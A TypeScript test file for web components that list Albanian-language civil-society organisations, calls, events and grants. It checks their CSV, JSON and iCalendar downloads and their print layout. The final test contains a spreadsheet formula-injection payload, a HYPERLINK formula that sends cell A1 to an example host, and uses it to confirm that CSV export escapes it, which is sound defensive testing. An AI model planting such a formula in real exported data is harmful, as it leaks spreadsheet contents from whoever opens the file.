import { expect } from '@open-wc/testing';
import { checkDataset } from '../../src/dataset/validate/check-dataset.ts';
import { emulateMedia } from '@web/test-runner-commands';
import '../../components/elements/call-list/call-list.define.ts';
import '../../components/elements/event-list/event-list.define.ts';
import '../../components/elements/grant-list/grant-list.define.ts';
import '../../components/elements/member-directory/member-directory.define.ts';
import {
  $,
  $$,
  call,
  CIVIL_SOCIETY,
  dataset,
  isVisible,
  mount,
  textIn,
  settled,
  show,
  tidy,
  until,
  words,
  type AnyWidget,
} from './helpers.ts';

/** A downloaded file. */
interface File {
  readonly name: string;
  readonly type: string;
  readonly text: string;
}

// Blob.text() drops the byte order mark, which Excel needs for UTF-8.
const decoder = new TextDecoder('utf-8', { ignoreBOM: true });

const { createObjectURL } = URL;
const { click } = HTMLAnchorElement.prototype;
let blob: Blob | undefined;
let name: string | undefined;

/** The first records of a downloaded dataset: those of the list. What they refer to follows. */
async function recordsOf(widget: Element, noun: string, count: number): Promise<{ id: string }[]> {
  const file: unknown = JSON.parse((await download(widget, 'JSON')).text);
  expect(checkDataset(file).findings.filter(({ severity }) => severity === 'error')).to.deep.equal([]);
  const records = (file as Record<string, { id: string }[]>)[noun]!;
  expect(records.length).to.be.at.least(count);
  return records.slice(0, count);
}

/** Clicks the download button of a format and returns its file. */
async function download(widget: Element, format: string): Promise<File> {
  blob = name = undefined;
  $$(widget, '[part=downloads] button')
    .find(({ textContent }) => words(textContent) === format)!
    .click();
  return { name: name!, type: blob!.type, text: decoder.decode(await blob!.arrayBuffer()) };
}

const formats = (widget: Element) =>
  $$(widget, '[part=downloads] button').map(({ textContent }) => words(textContent));
const rows = (widget: Element) => $$(widget, '[part=row]');

/** The cells of each line of a CSV file, unquoted. */
const cells = (csv: string) =>
  csv
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .filter(Boolean)
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
        ([, quoted, plain]) => quoted?.replace(/""/g, '"') ?? plain ?? '',
      ),
    );

/** Each list with a filter, and its number of rows with and without it. */
const LISTS = [
  {
    tag: 'ura-member-directory',
    attributes: 'network="rrjeti-harku" limit="2"',
    file: 'organisations',
    list: 'organisations',
    all: 14,
    filter: { label: 'Lloji', value: 'ngo', count: 5, summary: 'Lloji: Organizata joqeveritare (OJQ)' },
    heading: 'Emri',
  },
  {
    tag: 'ura-call-list',
    attributes: 'limit="1"',
    file: 'calls',
    list: 'calls',
    all: 4,
    filter: { label: 'Valuta', value: 'ALL', count: 1, summary: 'Valuta: ALL' },
    heading: 'Titulli',
  },
  {
    tag: 'ura-event-list',
    attributes: 'limit="1"',
    file: 'events',
    list: 'events',
    all: undefined,
    filter: { label: 'Komuna', value: 'xk-gjilan', count: undefined, summary: 'Komuna: Gjilan' },
    heading: 'Titulli',
  },
  {
    tag: 'ura-grant-list',
    attributes: 'limit="2"',
    file: 'grants',
    list: 'grants',
    all: undefined,
    filter: { label: 'Komuna', value: 'xk-gjilan', count: undefined, summary: 'Komuna: Gjilan' },
    heading: 'Granti',
  },
] as const;

type List = (typeof LISTS)[number];

const renderList = ({ tag, attributes }: List) =>
  show(`<${tag} ${attributes} src="${CIVIL_SOCIETY}"></${tag}>`) as Promise<AnyWidget>;

async function filterBy(widget: AnyWidget, { label, value }: List['filter']): Promise<void> {
  const select = $$(widget, '.control')
    .find((control) => words(control.querySelector('span')!.textContent) === label)!
    .querySelector('select')!;
  select.value = value;
  select.dispatchEvent(new Event('change'));
  await widget.updateComplete;
}

/** The number in the count of the list. */
const counted = (widget: Element) => Number(/\d+/.exec(textIn(widget, '[part=count] span'))![0]);

/** In each test of a group, keeps downloads instead of saving them. */
function catchFiles(): void {
  beforeEach(() => {
    URL.createObjectURL = (made) => {
      blob = made as Blob;
      return createObjectURL.call(URL, made);
    };
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      name = this.download;
    };
  });
  afterEach(() => {
    URL.createObjectURL = createObjectURL;
    HTMLAnchorElement.prototype.click = click;
    tidy();
  });
}

for (const list of LISTS) {
  describe(`downloads of <${list.tag}>`, () => {
    catchFiles();

    it('have a name, a media type and an encoding', async () => {
      const widget = await renderList(list);
      const csv = await download(widget, 'CSV');
      expect([csv.name, csv.type]).to.deep.equal([`${list.file}.csv`, 'text/csv;charset=utf-8']);
      expect(csv.text.charCodeAt(0)).to.equal(0xfeff);
      const json = await download(widget, 'JSON');
      expect([json.name, json.type]).to.deep.equal([`${list.file}.json`, 'application/json;charset=utf-8']);
    });

    it('contain all results, not only the rendered rows', async () => {
      const widget = await renderList(list);
      const count = counted(widget);
      expect(rows(widget).length).to.be.below(count);
      const [head, ...lines] = cells((await download(widget, 'CSV')).text);
      expect(head![0]).to.equal(list.heading);
      expect(lines).to.have.length(count);
      for (const line of lines) expect(line, line[0]).to.have.length(head!.length);
      const records = await recordsOf(widget, list.file, count);
      expect(records).to.have.length(count);
      expect(new Set(records.map(({ id }) => id)).size).to.equal(count);
    });

    it('contain only the filtered results, in the order of the list', async () => {
      const widget = await renderList(list);
      const all = counted(widget);
      await filterBy(widget, list.filter);
      const count = counted(widget);
      expect(count).to.be.within(1, all - 1);
      const lines = cells((await download(widget, 'CSV')).text).slice(1);
      const records = await recordsOf(widget, list.file, count);
      expect([lines.length, records.length]).to.deep.equal([count, count]);
      dispatchEvent(new Event('beforeprint'));
      const names = $$(widget, '[part=row] [part=name]').map(({ textContent }) => words(textContent));
      dispatchEvent(new Event('afterprint'));
      expect(lines.map(([first]) => words(first))).to.deep.equal(names);
    });
  });

  describe(`printing <${list.tag}>`, () => {
    afterEach(() => {
      dispatchEvent(new Event('afterprint'));
      tidy();
    });

    it('includes all rows', async () => {
      const widget = await renderList(list);
      const count = counted(widget);
      expect(rows(widget).length).to.be.below(count);
      dispatchEvent(new Event('beforeprint'));
      expect(rows(widget)).to.have.length(count);
      dispatchEvent(new Event('afterprint'));
      expect(rows(widget).length).to.be.below(count);
    });

    it('leaves out all controls', async function () {
      const widget = await renderList(list);
      // Only Chromium can emulate print media.
      const isPaper = await emulateMedia({ media: 'print' }).then(
        () => true,
        () => false,
      );
      if (!isPaper) this.skip();
      try {
        dispatchEvent(new Event('beforeprint'));
        for (const part of ['controls', 'downloads', 'more'])
          for (const element of $$(widget, `[part=${part}]`))
            expect(isVisible(element), part).to.equal(false);
      } finally {
        await emulateMedia({ media: 'screen' });
      }
    });

    it('adds an imprint with the filters, the date and the source', async () => {
      const widget = await renderList(list);
      expect($(widget, '[part=imprint]')).to.equal(null);
      dispatchEvent(new Event('beforeprint'));
      const source = `Burimi: ${new URL(CIVIL_SOCIETY, location.href).href}`;
      expect(textIn(widget, '[part=imprint]')).to.equal(`22 nëntor 2026 · ${source}`);
      dispatchEvent(new Event('afterprint'));
      await filterBy(widget, list.filter);
      const search = $<HTMLInputElement>(widget, 'input[type=search]')!;
      search.value = 'a';
      search.dispatchEvent(new Event('input'));
      await widget.updateComplete;
      dispatchEvent(new Event('beforeprint'));
      const [first, ...rest] = textIn(widget, '[part=imprint]').split(' · ');
      expect(first).to.match(/: a$/);
      expect(rest).to.deep.equal([list.filter.summary, '22 nëntor 2026', source]);
      dispatchEvent(new Event('afterprint'));
      expect($(widget, '[part=imprint]')).to.equal(null);
    });
  });
}

describe('calendars of lists', () => {
  catchFiles();

  it('are offered for calls and events only', async () => {
    const found = await Promise.all(LISTS.map(async (list) => [list.file, formats(await renderList(list))]));
    expect(Object.fromEntries(found)).to.deep.equal({
      organisations: ['CSV', 'JSON'],
      calls: ['CSV', 'JSON', 'iCalendar'],
      events: ['CSV', 'JSON', 'iCalendar'],
      grants: ['CSV', 'JSON'],
    });
  });

  it('contain the future deadlines of the matching calls, each with its own UID', async () => {
    const widget = await renderList(LISTS[1]);
    const { name: called, type, text } = await download(widget, 'iCalendar');
    expect([called, type]).to.deep.equal(['calls.ics', 'text/calendar;charset=utf-8']);
    const ids = text.match(/^UID:.*$/gm)!;
    expect(new Set(ids).size).to.equal(ids.length);
    expect(ids.length).to.be.above(1);
    await filterBy(widget, LISTS[1].filter);
    expect((await download(widget, 'iCalendar')).text.match(/^UID:.*$/gm)).to.have.length(1);
  });

  it('contain the matching events', async () => {
    const widget = await renderList(LISTS[2]);
    const before = (await download(widget, 'iCalendar')).text.match(/^BEGIN:VEVENT/gm)!.length;
    await filterBy(widget, LISTS[2].filter);
    const { name: called, text } = await download(widget, 'iCalendar');
    expect(called).to.equal('events.ics');
    expect(text.match(/^BEGIN:VEVENT/gm)!.length).to.be.within(1, before - 1);
  });
});

describe('a title that a spreadsheet would run as a formula', () => {
  beforeEach(() => {
    URL.createObjectURL = (made) => {
      blob = made as Blob;
      return createObjectURL.call(URL, made);
    };
    HTMLAnchorElement.prototype.click = () => {};
  });
  afterEach(() => {
    URL.createObjectURL = createObjectURL;
    HTMLAnchorElement.prototype.click = click;
    tidy();
  });

  it('is escaped in CSV and unchanged in JSON', async () => {
    const widget = mount<AnyWidget>('<ura-call-list></ura-call-list>', 'en');
    const formula = '=HYPERLINK("https://example.org/?"&A1,"Click")';
    widget.data = dataset({
      calls: [
        call({ title: formula, deadlines: [{ at: '2026-12-04' }] }),
        call({ id: 'd', title: 'Second', deadlines: [{ at: '2026-12-05' }] }),
      ],
    });
    await settled(widget);
    await until(() => rows(widget).length === 2);
    const lines = cells((await download(widget, 'CSV')).text);
    expect(lines[1]![0]).to.equal(`'${formula}`);
    const { calls } = JSON.parse((await download(widget, 'JSON')).text) as { calls: { title: string }[] };
    expect(calls[0]!.title).to.equal(formula);
  });
});
